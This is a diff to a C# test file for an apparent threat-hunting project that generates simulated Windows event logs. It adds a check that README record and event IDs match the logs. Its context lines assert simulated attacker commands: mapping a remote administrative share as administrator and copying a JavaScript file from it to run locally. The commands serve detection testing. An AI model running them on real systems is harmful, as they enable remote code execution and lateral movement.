@@ -1,6 +1,8 @@
 using System;
+using System.Collections.Generic;
 using System.IO;
 using System.Linq;
+using System.Text.RegularExpressions;
 using System.Xml.Linq;
 using TurlaHunt.Tests.Writing;
 using Xunit;
@@ -67,6 +69,26 @@ public sealed class SampleTests
             + @" & copy /y \\197.168.0.247\c$\users\public\documents\i.js C:\Users\m.weber\Documents\j.js & C:\Users\m.weber\Documents\j.js",
             lines);
         Assert.Contains(@"net  use \\197.168.0.247\c$ Not-A-Real-Passw0rd /user:administrator ", lines);
+    }
+
+    [Fact]
+    public void The_readme_names_records_that_are_there()
+    {
+        (string Log, string Record, string Event)[] rows =
+        [
+            .. File.ReadLines(Path.Combine(SampleFolder(), "README.md"))
+                .Select(line => Regex.Match(line, @"^\| (\w+) \| (\d+) \| (\d+) \|"))
+                .Where(match => match.Success)
+                .Select(match => (match.Groups[1].Value, match.Groups[2].Value, match.Groups[3].Value)),
+        ];
+        Assert.True(rows.Length > 20);
+        foreach (IGrouping<string, (string Log, string Record, string Event)> log in rows.GroupBy(row => row.Log))
+        {
+            SampleChannel channel = TopinambourStory.Tell().Single(channel => channel.FileName.Contains(log.Key));
+            Dictionary<string, string> events = IndependentReaders.EvtxExport(channel.ToLog())
+                .ToDictionary(item => EventXml.System(item, "EventRecordID"), item => EventXml.System(item, "EventID"));
+            Assert.All(log, row => Assert.Equal(row.Event, events[row.Record]));
+        }
     }
 
     private static byte[] Told(string file) => TopinambourStory.Tell().Single(channel => channel.FileName == file).ToLog();
